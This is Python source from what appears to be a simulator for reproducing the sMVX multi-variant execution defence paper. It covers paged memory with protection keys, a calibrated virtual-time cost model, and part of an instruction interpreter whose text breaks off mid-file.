    def is_mapped(self, addr: int) -> bool:
        return page_align_down(addr) // PAGE_SIZE in self._pages

    def page_at(self, addr: int) -> Optional[Page]:
        return self._pages.get(addr // PAGE_SIZE)

    def mapped_pages(self) -> Iterator[Tuple[int, Page]]:
        """Yield ``(page_base_address, page)`` in address order."""
        for index in sorted(self._pages):
            yield index * PAGE_SIZE, self._pages[index]

    def mapped_regions(self) -> List[Tuple[int, int, int, str]]:
        """Coalesce pages into ``(start, length, prot, tag)`` regions."""
        regions: List[Tuple[int, int, int, str]] = []
        for base, page in self.mapped_pages():
            if regions:
                start, length, prot, tag = regions[-1]
                if (start + length == base and prot == page.prot
                        and tag == page.tag):
                    regions[-1] = (start, length + PAGE_SIZE, prot, tag)
                    continue
            regions.append((base, PAGE_SIZE, page.prot, page.tag))
        return regions

    def resident_bytes(self) -> int:
        """Total bytes of mapped pages — the RSS analogue used by pmap."""
        return len(self._pages) * PAGE_SIZE

    def mmap(self, addr: Optional[int], length: int, prot: int = PROT_RW,
             pkey: int = PKEY_DEFAULT, tag: str = "",
             fixed: bool = False) -> int:
        """Map ``length`` (rounded up) bytes; returns the base address.

        With ``addr=None`` a free region is chosen from a moving hint, like
        ``mmap(NULL, ...)``.  ``fixed=True`` replaces existing mappings
        (``MAP_FIXED``); otherwise overlapping an existing page is an error
        so bugs surface instead of silently aliasing.
        """
        if length <= 0:
            raise ValueError("mmap length must be positive")
        length = page_align_up(length)
        if addr is None:
            addr = self._find_free(length)
        if addr % PAGE_SIZE:
            raise ValueError(f"mmap address not page aligned: {addr:#x}")
        if addr + length > ADDRESS_LIMIT:
            raise SegmentationFault(
                f"mmap beyond canonical limit: {addr:#x}", addr)
        first = addr // PAGE_SIZE
        count = length // PAGE_SIZE
        if not fixed:
            for index in range(first, first + count):
                if index in self._pages:
                    raise SegmentationFault(
                        f"mmap overlaps mapping at {index * PAGE_SIZE:#x}",
                        index * PAGE_SIZE)
        for index in range(first, first + count):
            self._pages[index] = Page(prot, pkey, tag)
        self._mapping_changed()
        return addr

    def munmap(self, addr: int, length: int) -> None:
        if addr % PAGE_SIZE:
            raise ValueError(f"munmap address not page aligned: {addr:#x}")
        length = page_align_up(length)
        first = addr // PAGE_SIZE
        for index in range(first, first + length // PAGE_SIZE):
            page = self._pages.pop(index, None)
            if page is not None:
                page.invalidate_decode()
        self._mapping_changed()

    def mprotect(self, addr: int, length: int, prot: int) -> None:
        for index in self._page_range(addr, length):
            page = self._pages[index]
            page.prot = prot
            page.invalidate_decode()
        self._mapping_changed()

    def pkey_mprotect(self, addr: int, length: int, prot: int,
                      pkey: int) -> None:
        if not 0 <= pkey < NUM_PKEYS:
            raise ValueError(f"bad protection key {pkey}")
        for index in self._page_range(addr, length):
            page = self._pages[index]
            page.prot = prot
            page.pkey = pkey
            page.invalidate_decode()
        self._mapping_changed()

    def set_tag(self, addr: int, length: int, tag: str) -> None:
        for index in self._page_range(addr, length):
            self._pages[index].tag = tag

    def _page_range(self, addr: int, length: int) -> Iterator[int]:
        if addr % PAGE_SIZE:
            raise ValueError(f"address not page aligned: {addr:#x}")
        length = page_align_up(length)
        first = addr // PAGE_SIZE
        for index in range(first, first + length // PAGE_SIZE):
            if index not in self._pages:
                raise SegmentationFault(
                    f"unmapped page at {index * PAGE_SIZE:#x}",
                    index * PAGE_SIZE)
            yield index

    def _find_free(self, length: int) -> int:
        """Find ``length`` bytes of unmapped pages at/after the hint.

        A single forward cursor counts the current free run and restarts
        it just past any occupied page, so the search is linear in the
        pages visited rather than re-probing ``count`` pages at every
        candidate base (which made large mappings quadratic).
        """
        count = length // PAGE_SIZE
        pages = self._pages
        first = self._mmap_hint // PAGE_SIZE
        index = first
        run = 0
        while True:
            if index in pages:
                first = index + 1
                run = 0
            else:
                run += 1
                if run == count:
                    self._mmap_hint = (first + count) * PAGE_SIZE
                    return first * PAGE_SIZE
            index += 1

    # -- access checks ------------------------------------------------------

    def _page_for_access(self, addr: int, op: str) -> Page:
        page = self._pages.get(addr // PAGE_SIZE)
        if page is None:
            raise SegmentationFault(
                f"{op} of unmapped address {addr:#x} in {self.name}", addr)
        return page

    def check_read(self, addr: int, pkru: int = PKRU_ALLOW_ALL,
                   privileged: bool = False) -> Page:
        page = self._page_for_access(addr, "read")
        if privileged:
            return page
        if not page.prot & PROT_READ:
            raise SegmentationFault(
                f"read of non-readable page at {addr:#x}", addr)
        if not pkru_allows_read(pkru, page.pkey):
            raise ProtectionKeyFault(
                f"pkey {page.pkey} denies read at {addr:#x} "
                f"(PKRU={pkru:#x})", addr)
        return page

    def check_write(self, addr: int, pkru: int = PKRU_ALLOW_ALL,
                    privileged: bool = False) -> Page:
        page = self._page_for_access(addr, "write")
        if privileged:
            return page
        if not page.prot & PROT_WRITE:
            raise SegmentationFault(
                f"write to non-writable page at {addr:#x}", addr)
        if not pkru_allows_write(pkru, page.pkey):
            raise ProtectionKeyFault(
                f"pkey {page.pkey} denies write at {addr:#x} "
                f"(PKRU={pkru:#x})", addr)
        return page

    def fetch_check(self, addr: int) -> Page:
        """Instruction-fetch permission check.

        Note: protection keys are *not* consulted — MPK only gates data
        accesses, which is exactly the property XoM exploits.
        """
        page = self._pages.get(addr // PAGE_SIZE)
        if page is None:
            raise ExecuteFault(
                f"fetch from unmapped address {addr:#x} in {self.name}",
                addr)
        if not page.prot & PROT_EXEC:
            raise ExecuteFault(
                f"fetch from non-executable page at {addr:#x}", addr)
        return page

    # -- software TLB -------------------------------------------------------

    def _lookup_read(self, addr: int, pkru: int, privileged: bool) -> Page:
        """check_read memoized through the read TLB (unprivileged only)."""
        if privileged:
            return self.check_read(addr, pkru, True)
        key = (addr // PAGE_SIZE, pkru)
        entry = self._tlb_read.get(key)
        if entry is not None:
            page, prot, pkey = entry
            if page.prot == prot and page.pkey == pkey:
                return page
        page = self.check_read(addr, pkru, False)
        self.tlb_fills += 1
        self._tlb_read[key] = (page, page.prot, page.pkey)
        return page

    def _lookup_write(self, addr: int, pkru: int, privileged: bool) -> Page:
        """check_write memoized through the write TLB (unprivileged only)."""
        if privileged:
            return self.check_write(addr, pkru, True)
        key = (addr // PAGE_SIZE, pkru)
        entry = self._tlb_write.get(key)
        if entry is not None:
            page, prot, pkey = entry
            if page.prot == prot and page.pkey == pkey:
                return page
        page = self.check_write(addr, pkru, False)
        self.tlb_fills += 1
        self._tlb_write[key] = (page, page.prot, page.pkey)
        return page

    # -- data access --------------------------------------------------------

    def read(self, addr: int, size: int, pkru: int = PKRU_ALLOW_ALL,
             privileged: bool = False) -> bytes:
        if size < 0:
            raise ValueError("negative read size")
        self.access_count += 1
        if not self._observers:
            offset = addr % PAGE_SIZE
            if 0 < size <= PAGE_SIZE - offset:
                page = self._lookup_read(addr, pkru, privileged)
                return bytes(page.data[offset:offset + size])
        out = bytearray()
        remaining = size
        cursor = addr
        while remaining > 0:
            page = self._lookup_read(cursor, pkru, privileged)
            offset = cursor % PAGE_SIZE
            chunk = min(remaining, PAGE_SIZE - offset)
            out += page.data[offset:offset + chunk]
            cursor += chunk
            remaining -= chunk
        value = bytes(out)
        if self._observers:
            self._notify("read", addr, size, value)
        return value

    def write(self, addr: int, data: bytes, pkru: int = PKRU_ALLOW_ALL,
              privileged: bool = False) -> None:
        self.access_count += 1
        cursor = addr
        view = memoryview(data)
        while view:
            page = self._lookup_write(cursor, pkru, privileged)
            offset = cursor % PAGE_SIZE
            chunk = min(len(view), PAGE_SIZE - offset)
            page.data[offset:offset + chunk] = view[:chunk]
            if page.decode_cache is not None or page.jit_cache is not None:
                page.invalidate_decode()
            cursor += chunk
            view = view[chunk:]
        if self._observers:
            self._notify("write", addr, len(data), bytes(data))

    def read_word(self, addr: int, pkru: int = PKRU_ALLOW_ALL,
                  privileged: bool = False, aligned: bool = True) -> int:
        if addr % WORD_SIZE:
            if aligned:
                raise AlignmentFault(
                    f"unaligned word read at {addr:#x}", addr)
            # unaligned words may straddle pages: take the general path
            return _WORD_STRUCT.unpack(self.read(addr, WORD_SIZE, pkru,
                                                 privileged))[0]
        if self._observers:
            return _WORD_STRUCT.unpack(self.read(addr, WORD_SIZE, pkru,
                                                 privileged))[0]
        # fast path: an aligned word never crosses a page; unpack straight
        # from the backing bytearray without an intermediate copy
        self.access_count += 1
        page = self._lookup_read(addr, pkru, privileged)
        return _WORD_STRUCT.unpack_from(page.data, addr % PAGE_SIZE)[0]

    def write_word(self, addr: int, value: int, pkru: int = PKRU_ALLOW_ALL,
                   privileged: bool = False, aligned: bool = True) -> None:
        if addr % WORD_SIZE:
            if aligned:
                raise AlignmentFault(
                    f"unaligned word write at {addr:#x}", addr)
            self.write(addr, _WORD_STRUCT.pack(value & _MASK64), pkru,
                       privileged)
            return
        if self._observers:
            self.write(addr, _WORD_STRUCT.pack(value & _MASK64), pkru,
                       privileged)
            return
        self.access_count += 1
        page = self._lookup_write(addr, pkru, privileged)
        _WORD_STRUCT.pack_into(page.data, addr % PAGE_SIZE, value & _MASK64)
        if page.decode_cache is not None or page.jit_cache is not None:
            page.invalidate_decode()

    def read_cstring(self, addr: int, pkru: int = PKRU_ALLOW_ALL,
                     privileged: bool = False, limit: int = 1 << 16) -> bytes:
        """Read a NUL-terminated byte string (used by guest string args)."""
        if self._observers:
            # precise path: byte-granular reads (and notifies) so taint
            # propagation sees exactly the accesses the guest performed
            out = bytearray()
            cursor = addr
            while len(out) < limit:
                byte = self.read(cursor, 1, pkru, privileged)
                if byte == b"\x00":
                    return bytes(out)
                out += byte
                cursor += 1
            raise SegmentationFault(
                f"unterminated string at {addr:#x}", addr)
        # fast path: scan page-sized chunks with bytearray.find; the limit
        # and faulting behavior match the byte loop exactly (check each
        # page only when the scan actually reaches it, stop at `limit`
        # bytes without a terminator)
        out = bytearray()
        cursor = addr
        while len(out) < limit:
            page = self._lookup_read(cursor, pkru, privileged)
            offset = cursor % PAGE_SIZE
            end = min(PAGE_SIZE, offset + (limit - len(out)))
            pos = page.data.find(0, offset, end)
            if pos >= 0:
                out += page.data[offset:pos]
                return bytes(out)
            out += page.data[offset:end]
            cursor += end - offset
        raise SegmentationFault(
            f"unterminated string at {addr:#x}", addr)

    # -- cloning (used by variant creation) ---------------------------------

    def fork_into(self, other: "AddressSpace") -> None:
        """Deep-copy every mapping into ``other`` at identical addresses."""
        for index, page in self._pages.items():
            other._pages[index] = page.clone()
        other._mmap_hint = self._mmap_hint
        other._mapping_changed()

    def share_into(self, other: "AddressSpace",
                   exclude: "Optional[List[Tuple[int, int]]]" = None) -> int:
        """Install this space's pages into ``other`` as *shared* pages.

        Page objects are aliased, not copied — a write through either
        space is visible in both, like a shared-memory mapping.  Pages
        whose base address falls in an ``exclude`` range ``(start, end)``
        are left unmapped in ``other``; accessing them there faults.  This
        is how the sMVX follower gets a view without the leader's image
        and heap (non-overlapping address spaces, paper §3.1).
        """
        exclude = exclude or []
        shared = 0
        for index, page in self._pages.items():
            base = index * PAGE_SIZE
            if any(start <= base < end for start, end in exclude):
                continue
            other._pages[index] = page
            shared += 1
        other._mmap_hint = max(other._mmap_hint, self._mmap_hint)
        other._mapping_changed()
        return shared
