"""Simulated hardware: paged memory, MPK, registers, ISA, CPU.

This package is the substrate substitution for real x86-64 hardware (see
DESIGN.md §1).  Everything the sMVX mechanisms rely on — page mappings and
faults, per-thread PKRU protection-key checks, execute-only memory,
instruction fetch/decode, and cycle accounting — is modelled explicitly so
the paper's monitor-isolation and variant-divergence arguments can be
exercised end to end.
"""

from repro.machine.memory import (
    PAGE_SIZE,
    WORD_SIZE,
    PROT_NONE,
    PROT_READ,
    PROT_WRITE,
    PROT_EXEC,
    PROT_RW,
    PROT_RX,
    PROT_RWX,
    Page,
    AddressSpace,
    page_align_down,
    page_align_up,
)
from repro.machine.mpk import (
    NUM_PKEYS,
    PKEY_DEFAULT,
    PKRU_ALLOW_ALL,
    pkru_disable_access,
    pkru_disable_write,
    pkru_allows_read,
    pkru_allows_write,
)
from repro.machine.registers import RegisterFile, GP_REGISTERS
from repro.machine.isa import Instruction, Op, INSTR_SIZE
from repro.machine.asm import Assembler, label
from repro.machine.cpu import CPU, CpuExit
from repro.machine.costs import CostModel, DEFAULT_COSTS

__all__ = [
    "PAGE_SIZE",
    "WORD_SIZE",
    "PROT_NONE",
    "PROT_READ",
    "PROT_WRITE",
    "PROT_EXEC",
    "PROT_RW",
    "PROT_RX",
    "PROT_RWX",
    "Page",
    "AddressSpace",
    "page_align_down",
    "page_align_up",
    "NUM_PKEYS",
    "PKEY_DEFAULT",
    "PKRU_ALLOW_ALL",
    "pkru_disable_access",
    "pkru_disable_write",
    "pkru_allows_read",
    "pkru_allows_write",
    "RegisterFile",
    "GP_REGISTERS",
    "Instruction",
    "Op",
    "INSTR_SIZE",
    "Assembler",
    "label",
    "CPU",
    "CpuExit",
    "CostModel",
    "DEFAULT_COSTS",
]
