"""Virtual-time cost model.

All performance results in this reproduction are reported in deterministic
*virtual nanoseconds* rather than wall-clock time (DESIGN.md §1): the
authors' absolute numbers come from a Xeon Silver 4110 testbed we do not
have, but every comparison in the paper is relative, so a single consistent
cost model preserves the shapes.

The constants were calibrated once against the paper's own micro numbers
(Table 2 latencies, footnote 1's four context switches, §4.1 overheads) and
are then frozen; benchmarks print paper-vs-measured so drift is visible.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Dict


@dataclass(frozen=True)
class CostModel:
    """Every virtual-time constant used by the simulation, in nanoseconds."""

    # -- CPU ----------------------------------------------------------------
    #: one ISA instruction (1 GHz single-issue machine: 1 cycle == 1 ns).
    instruction_ns: int = 1
    #: charged by high-level guest code per unit of abstract compute work.
    compute_unit_ns: int = 1
    #: one MMU data access issued by high-level guest code.
    memory_access_ns: int = 4

    # -- kernel -------------------------------------------------------------
    #: one user/kernel crossing (syscall entry *or* exit).
    kernel_crossing_ns: int = 150
    #: a full context switch to another task (ptrace monitors pay 4 of
    #: these per interception; paper §2.1 footnote 1).
    context_switch_ns: int = 1200
    #: base cost of a syscall's in-kernel work.
    syscall_work_ns: int = 300
    #: thread creation via clone() with shared VM (paper Tab. 2: 9.5 us).
    clone_thread_ns: int = 9_500
    #: fork() of an empty main() (paper Tab. 2: 640 us).
    fork_base_ns: int = 640_000
    #: extra fork cost per mapped page (COW setup); calibrated so a fork
    #: during lighttpd-like init lands near the paper's 697 us.
    fork_per_page_ns: int = 160

    # -- sMVX monitor -------------------------------------------------------
    #: trampoline entry/exit: two wrpkru, stack pivot, PLT index decode.
    trampoline_ns: int = 60
    #: monitor bookkeeping per intercepted libc call (ring-buffer post,
    #: argument classification).
    monitor_call_ns: int = 180
    #: one lockstep rendezvous between leader and follower (futex-style
    #: wake + compare).
    rendezvous_ns: int = 450
    #: copying emulated results to the follower, per byte.
    ipc_copy_byte_ns: float = 0.25

    # -- variant creation (paper Tab. 2) -------------------------------------
    #: copying+moving one page during shift-and-clone duplication;
    #: calibrated so a lighttpd-sized image (~90 pages) costs ~14.7 us.
    page_copy_ns: int = 160
    #: relocating one heap page: remap/CoW setup rather than an eager
    #: copy (the paper's 14.7 us "copy+move" stays flat as the heap
    #: grows; its cost lives in the scan, not the move).
    heap_remap_page_ns: int = 12
    #: scanning one 8-byte-aligned slot in .data/.bss (cheap: bounded
    #: regions, warm cache).  ~8k slots -> ~0.3 ms, matching Tab. 2.
    data_scan_slot_ns: int = 39
    #: scanning one heap slot, including region-list pointer verification
    #: (the paper's dominant cost: 131.6 ms for the lighttpd heap).
    heap_scan_slot_ns: int = 550
    #: rewriting one identified pointer.
    pointer_fixup_ns: int = 12

    # -- cluster wire protocol (repro.cluster) --------------------------------
    #: serializing + posting one wire frame onto an inter-host link
    #: (length prefix, batch header, NIC doorbell).
    wire_frame_ns: int = 2_000
    #: marshalling one payload byte into a wire frame.
    wire_byte_ns: float = 0.05

    # -- whole-program MVX baselines ------------------------------------------
    # Effective per-interception costs in the paper's measurement regime
    # (saturated server, lockstep variants contending for the machine):
    # they fold the rendezvous wait and replication contention into one
    # constant, calibrated once against Figure 7's ReMon bars.
    #: ReMon in-process syscall interception (fast path).
    remon_inprocess_ns: int = 30_000
    #: ReMon cross-process path for security-sensitive syscalls.
    remon_crossprocess_ns: int = 180_000
    #: fraction of syscalls ReMon routes to the cross-process monitor
    #: (informational; the sensitive-call set decides in practice).
    remon_crossprocess_fraction: float = 0.08
    #: Orchestra-style ptrace monitor: four context switches per
    #: interception plus monitor work, in the same saturated regime.
    ptrace_intercept_ns: int = 100_000

    def scaled(self, **overrides: float) -> "CostModel":
        """Return a copy with selected constants replaced (for ablations)."""
        return replace(self, **overrides)

    def as_dict(self) -> Dict[str, float]:
        return {name: getattr(self, name)
                for name in self.__dataclass_fields__}


DEFAULT_COSTS = CostModel()


@dataclass
class CycleCounter:
    """Mutable accumulator of virtual time for one process.

    ``charge`` also advances the attached machine clock (virtual time is
    global) and fans out to registered listeners, which is how the perf
    profiler attributes cycles to the function currently on top of the
    call stack.
    """

    total_ns: float = 0.0
    listeners: list = field(default_factory=list)
    clock: object = None
    by_category: dict = field(default_factory=dict)

    def charge(self, ns: float, category: str = "cpu") -> None:
        if ns < 0:
            raise ValueError("cannot charge negative time")
        self.total_ns += ns
        self.by_category[category] = self.by_category.get(category, 0.0) + ns
        if self.clock is not None:
            self.clock.advance_ns(ns)
        for listener in self.listeners:
            listener(ns, category)

    def add_listener(self, listener) -> None:
        self.listeners.append(listener)

    def remove_listener(self, listener) -> None:
        self.listeners.remove(listener)
