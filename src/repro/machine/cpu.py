"""The interpreter core of the simulated machine.

The CPU executes one *hart* at a time against an :class:`AddressSpace`.
The executing thread's architectural state (registers + the thread-private
PKRU) is handed in per run, mirroring the fact that PKRU is per-thread on
real hardware.

Two escape hatches connect the machine to the rest of the system:

* ``syscall_handler(state)`` — invoked by the ``SYSCALL`` instruction; the
  simulated kernel lives behind it.
* ``hl_dispatch(state, index)`` — invoked by ``HLCALL``; high-level guest
  functions (DESIGN.md's hybrid guest model) live behind it.

Every instruction charges :attr:`CostModel.instruction_ns` of virtual time.

Two interpreters produce identical architectural results:

* the **precise path** (:meth:`CPU.step`): fetch, fire ``trace_hook``,
  charge the counter, execute via a per-opcode handler table.  It runs
  whenever anything observes execution at instruction or access
  granularity — a ``trace_hook``, a memory observer on the address space,
  or a ``CycleCounter`` listener — and for every direct ``step()`` call.
* the **fast path** (inside :meth:`CPU.run`): fetches through a per-page
  decoded-instruction cache (decode each text page's slots once, dropped
  by the MMU whenever the page is written or remapped), inlines the hot
  opcodes, and batches virtual-time charging — ``instruction_ns`` is
  accumulated locally and flushed to the counter at block boundaries
  (``SYSCALL``/``HLCALL``, any fault, and run exit).  Because every cost
  constant is an exactly-representable binary fraction, the batched sums
  are bit-identical to per-instruction charging, and the flush always
  happens *before* host callbacks run, so the kernel observes the same
  virtual clock either way.

``CPU.force_slow_path`` (class-wide or per instance) pins the precise
path; the differential tests use it to prove both interpreters agree.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, List, Optional

from repro.errors import InvalidInstruction, MachineFault
from repro.machine.costs import CostModel, CycleCounter, DEFAULT_COSTS
from repro.machine.isa import INSTR_SIZE, Instruction, Op
from repro.machine.memory import AddressSpace, PAGE_SIZE, WORD_SIZE
from repro.machine.mpk import PKRU_MASK
from repro.machine.registers import RegisterFile

_MASK64 = (1 << 64) - 1

#: Synthetic return address meaning "return control to the host caller".
#: It sits in non-canonical space so it can never collide with a mapping.
HOST_RETURN_ADDRESS = 0x0FFF_DEAD_0000


@dataclass
class ExecState:
    """Architectural state of one simulated thread."""

    regs: RegisterFile
    pkru: int = 0

    def clone(self) -> "ExecState":
        state = ExecState(RegisterFile(), self.pkru)
        state.regs.load_snapshot(self.regs.snapshot())
        return state


class CpuExit(Exception):
    """Raised (internally) to stop the run loop; carries the reason."""

    def __init__(self, reason: str):
        super().__init__(reason)
        self.reason = reason


# -- precise-path opcode handlers ---------------------------------------------
#
# One function per opcode, indexed by opcode byte.  Handlers run *after*
# fetch/hook/charge with ``rip`` already advanced to ``rip_next`` — the
# same contract the old if/elif chain had.

_DISPATCH: List[Optional[Callable]] = [None] * 0x80


def _handler(op: Op):
    def register(fn):
        _DISPATCH[int(op)] = fn
        return fn
    return register


@_handler(Op.NOP)
@_handler(Op.BRK)
def _op_nop(cpu, state, instr, addr, rip_next):
    pass


@_handler(Op.HLT)
def _op_hlt(cpu, state, instr, addr, rip_next):
    raise CpuExit("hlt")


@_handler(Op.MOV_RR)
def _op_mov_rr(cpu, state, instr, addr, rip_next):
    state.regs.set(instr.reg1, state.regs.get(instr.reg2))


@_handler(Op.MOV_RI)
def _op_mov_ri(cpu, state, instr, addr, rip_next):
    state.regs.set(instr.reg1, instr.imm)


@_handler(Op.LEA)
def _op_lea(cpu, state, instr, addr, rip_next):
    state.regs.set(instr.reg1, rip_next + instr.imm)


@_handler(Op.LOAD)
def _op_load(cpu, state, instr, addr, rip_next):
    base = state.regs.get(instr.reg2)
    state.regs.set(instr.reg1,
                   cpu.space.read_word((base + instr.imm) & _MASK64,
                                       state.pkru))


@_handler(Op.STORE)
def _op_store(cpu, state, instr, addr, rip_next):
    base = state.regs.get(instr.reg1)
    cpu.space.write_word((base + instr.imm) & _MASK64,
                         state.regs.get(instr.reg2), state.pkru)


@_handler(Op.LOAD8)
def _op_load8(cpu, state, instr, addr, rip_next):
    base = state.regs.get(instr.reg2)
    raw = cpu.space.read((base + instr.imm) & _MASK64, 1, state.pkru)
    state.regs.set(instr.reg1, raw[0])


@_handler(Op.STORE8)
def _op_store8(cpu, state, instr, addr, rip_next):
    base = state.regs.get(instr.reg1)
    cpu.space.write((base + instr.imm) & _MASK64,
                    bytes([state.regs.get(instr.reg2) & 0xFF]), state.pkru)


def _alu(op: Op, fn):
    @_handler(op)
    def _op_alu(cpu, state, instr, addr, rip_next, _fn=fn):
        regs = state.regs
        regs.set(instr.reg1, _fn(regs, instr))
    return _op_alu


_alu(Op.ADD_RR, lambda r, i: r.get(i.reg1) + r.get(i.reg2))
_alu(Op.ADD_RI, lambda r, i: r.get(i.reg1) + i.imm)
_alu(Op.SUB_RR, lambda r, i: r.get(i.reg1) - r.get(i.reg2))
_alu(Op.SUB_RI, lambda r, i: r.get(i.reg1) - i.imm)
_alu(Op.AND_RR, lambda r, i: r.get(i.reg1) & r.get(i.reg2))
_alu(Op.AND_RI, lambda r, i: r.get(i.reg1) & i.imm)
_alu(Op.OR_RR, lambda r, i: r.get(i.reg1) | r.get(i.reg2))
_alu(Op.OR_RI, lambda r, i: r.get(i.reg1) | i.imm)
_alu(Op.XOR_RR, lambda r, i: r.get(i.reg1) ^ r.get(i.reg2))
_alu(Op.XOR_RI, lambda r, i: r.get(i.reg1) ^ i.imm)
_alu(Op.SHL_RI, lambda r, i: r.get(i.reg1) << (i.imm & 63))
_alu(Op.SHR_RI, lambda r, i: r.get(i.reg1) >> (i.imm & 63))
_alu(Op.MUL_RR, lambda r, i: r.get(i.reg1) * r.get(i.reg2))
_alu(Op.NOT_R, lambda r, i: ~r.get(i.reg1))


@_handler(Op.CMP_RR)
def _op_cmp_rr(cpu, state, instr, addr, rip_next):
    state.regs.set_compare_flags(state.regs.get(instr.reg1),
                                 state.regs.get(instr.reg2))


@_handler(Op.CMP_RI)
def _op_cmp_ri(cpu, state, instr, addr, rip_next):
    state.regs.set_compare_flags(state.regs.get(instr.reg1), instr.imm)


@_handler(Op.TEST_RR)
def _op_test_rr(cpu, state, instr, addr, rip_next):
    masked = state.regs.get(instr.reg1) & state.regs.get(instr.reg2)
    state.regs.set_compare_flags(masked, 0)


@_handler(Op.JMP)
def _op_jmp(cpu, state, instr, addr, rip_next):
    state.regs.rip = (rip_next + instr.imm) & _MASK64


@_handler(Op.JMP_R)
def _op_jmp_r(cpu, state, instr, addr, rip_next):
    state.regs.rip = state.regs.get(instr.reg1)


@_handler(Op.JMP_M)
def _op_jmp_m(cpu, state, instr, addr, rip_next):
    slot = (rip_next + instr.imm) & _MASK64
    state.regs.rip = cpu.space.read_word(slot, state.pkru)


def _jcc(op: Op, taken):
    @_handler(op)
    def _op_jcc(cpu, state, instr, addr, rip_next, _taken=taken):
        regs = state.regs
        if _taken(regs):
            regs.rip = (rip_next + instr.imm) & _MASK64
    return _op_jcc


_jcc(Op.JE, lambda r: r.zf)
_jcc(Op.JNE, lambda r: not r.zf)
_jcc(Op.JL, lambda r: r.sf)
_jcc(Op.JGE, lambda r: not r.sf)
_jcc(Op.JB, lambda r: r.cf)
_jcc(Op.JAE, lambda r: not r.cf)


@_handler(Op.CALL)
def _op_call(cpu, state, instr, addr, rip_next):
    cpu._push(state, rip_next)
    state.regs.rip = (rip_next + instr.imm) & _MASK64


@_handler(Op.CALL_R)
def _op_call_r(cpu, state, instr, addr, rip_next):
    cpu._push(state, rip_next)
    state.regs.rip = state.regs.get(instr.reg1)


@_handler(Op.RET)
def _op_ret(cpu, state, instr, addr, rip_next):
    state.regs.rip = cpu._pop(state)


@_handler(Op.PUSH_R)
def _op_push_r(cpu, state, instr, addr, rip_next):
    cpu._push(state, state.regs.get(instr.reg1))


@_handler(Op.POP_R)
def _op_pop_r(cpu, state, instr, addr, rip_next):
    state.regs.set(instr.reg1, cpu._pop(state))


@_handler(Op.PUSH_I)
def _op_push_i(cpu, state, instr, addr, rip_next):
    cpu._push(state, instr.imm & _MASK64)


@_handler(Op.WRPKRU)
def _op_wrpkru(cpu, state, instr, addr, rip_next):
    # Hardware requires %ecx == %edx == 0 or it #GPs; keeping the
    # check makes accidental wrpkru gadgets harder, as on Skylake.
    if state.regs.get("rcx") or state.regs.get("rdx"):
        raise InvalidInstruction("wrpkru with non-zero rcx/rdx", addr)
    state.pkru = state.regs.get("rax") & PKRU_MASK


@_handler(Op.RDPKRU)
def _op_rdpkru(cpu, state, instr, addr, rip_next):
    state.regs.set("rax", state.pkru)


@_handler(Op.SYSCALL)
def _op_syscall(cpu, state, instr, addr, rip_next):
    if cpu.syscall_handler is None:
        raise MachineFault("SYSCALL with no kernel attached", addr)
    cpu.syscall_handler(state)


@_handler(Op.HLCALL)
def _op_hlcall(cpu, state, instr, addr, rip_next):
    if cpu.hl_dispatch is None:
        raise MachineFault("HLCALL with no dispatcher", addr)
    cpu.hl_dispatch(state, instr.imm)


class CPU:
    """Fetch/decode/execute loop over the simulated ISA."""

    #: Class-wide escape hatch: force the precise per-instruction
    #: interpreter (also settable per instance).  Used by the
    #: differential tests and handy when bisecting a fast-path suspect.
    force_slow_path = False

    #: Class-wide switch for the third tier (also settable per instance
    #: *before* construction): when False no JitEngine is created and the
    #: fast path never promotes hot blocks.  The differential tests pin
    #: this to isolate the fast tier.
    jit_enabled = True

    def __init__(self, space: AddressSpace,
                 counter: Optional[CycleCounter] = None,
                 costs: CostModel = DEFAULT_COSTS,
                 syscall_handler: Optional[Callable] = None,
                 hl_dispatch: Optional[Callable] = None):
        self.space = space
        self.counter = counter or CycleCounter()
        self.costs = costs
        self.syscall_handler = syscall_handler
        self.hl_dispatch = hl_dispatch
        #: optional per-instruction hook: (state, addr, instruction).
        #: A hook that raises is detached (the error is kept in
        #: :attr:`trace_hook_error`) — observation must never perturb the
        #: observed execution.  While attached, the CPU runs the precise
        #: path so the hook sees every retired instruction.
        self.trace_hook: Optional[Callable] = None
        self.trace_hook_error: Optional[BaseException] = None
        self.instructions_retired = 0
        #: per-tier retirement counters (sum == instructions_retired)
        self.precise_insns = 0
        self.fast_insns = 0
        self.jit_insns = 0
        if self.jit_enabled:
            from repro.machine.jit import JitEngine  # avoid import cycle
            self.jit: Optional["JitEngine"] = JitEngine(self)
        else:
            self.jit = None

    def stats(self) -> dict:
        """Per-tier execution statistics (deterministic across identical
        runs — the trace footer pins them to prove the tier split
        replays).  The TLB hit rate is approximate: observer-path
        accesses bypass the TLB but still count as accesses."""
        space = self.space
        jit = self.jit
        accesses = space.access_count
        fills = space.tlb_fills
        return {
            "precise_insns": self.precise_insns,
            "fast_insns": self.fast_insns,
            "jit_insns": self.jit_insns,
            "instructions_retired": self.instructions_retired,
            "jit_blocks": jit.blocks_translated if jit else 0,
            "jit_promotions": jit.promotions if jit else 0,
            "jit_invalidations": jit.invalidations if jit else 0,
            "jit_entries": jit.entries if jit else 0,
            "tlb_fills": fills,
            "tlb_hit_rate": (round(1.0 - fills / accesses, 6)
                             if accesses else 1.0),
        }

    # -- helpers -------------------------------------------------------------

    def _decode_cached(self, page, offset: int, addr: int):
        """Decode the instruction at ``addr`` into ``page``'s cache.

        Returns a ``(opcode, reg1, reg2, imm, instruction)`` entry.  An
        instruction that straddles the page boundary is decoded precisely
        and never cached (its bytes span two pages, so one page's
        invalidation could not cover it).
        """
        if offset + INSTR_SIZE <= PAGE_SIZE:
            try:
                instr = Instruction.decode(
                    bytes(page.data[offset:offset + INSTR_SIZE]))
            except InvalidInstruction as exc:
                exc.address = addr
                raise
            entry = (int(instr.op), instr.reg1, instr.reg2, instr.imm,
                     instr)
            cache = page.decode_cache
            if cache is not None:
                cache[offset] = entry
            return entry
        head = bytes(page.data[offset:])
        next_page = self.space.fetch_check(addr + (PAGE_SIZE - offset))
        raw = head + bytes(next_page.data[:INSTR_SIZE - len(head)])
        try:
            instr = Instruction.decode(raw)
        except InvalidInstruction as exc:
            exc.address = addr
            raise
        return (int(instr.op), instr.reg1, instr.reg2, instr.imm, instr)

    def _fetch(self, state: ExecState) -> Instruction:
        addr = state.regs.rip
        page = self.space.fetch_check(addr)
        offset = addr % PAGE_SIZE
        cache = page.decode_cache
        if cache is None:
            cache = page.decode_cache = {}
        entry = cache.get(offset)
        if entry is None:
            entry = self._decode_cached(page, offset, addr)
        return entry[4]

    def _push(self, state: ExecState, value: int) -> None:
